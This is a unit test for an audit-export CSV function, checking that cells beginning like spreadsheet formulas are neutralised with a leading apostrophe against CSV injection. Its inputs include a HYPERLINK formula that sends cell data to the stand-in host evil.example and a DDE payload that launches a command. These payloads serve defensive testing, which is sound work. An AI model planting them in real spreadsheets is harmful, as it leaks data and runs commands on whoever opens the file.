import { describe, expect, it } from 'vitest';
import { csvLine } from '../../sdk/src/cli/audit';

/** What a spreadsheet would run as a formula must reach it as text (OWASP CSV injection). */
describe('audit export CSV cells', () => {
  it('neutralises cells that begin like a formula, and keeps the rest as they are', () => {
    const line = csvLine([
      '=HYPERLINK("http://evil.example/?x="&A1,"open")',
      '+1+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\0=1+1',
      'cfo@company.com',
      '{"comment":"=1+1"}',
      'plain',
    ]);
    expect(line).toBe(
      `${[
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`,
        `"'+1+cmd|/C calc!A0"`,
        `"'-2+3"`,
        `"'@SUM(A1:A9)"`,
        `"'\t=1+1"`,
        `"'\r=1+1"`,
        `"'\0=1+1"`,
        'cfo@company.com',
        '"{""comment"":""=1+1""}"',
        'plain',
      ].join(',')}\r\n`,
    );
  });
});
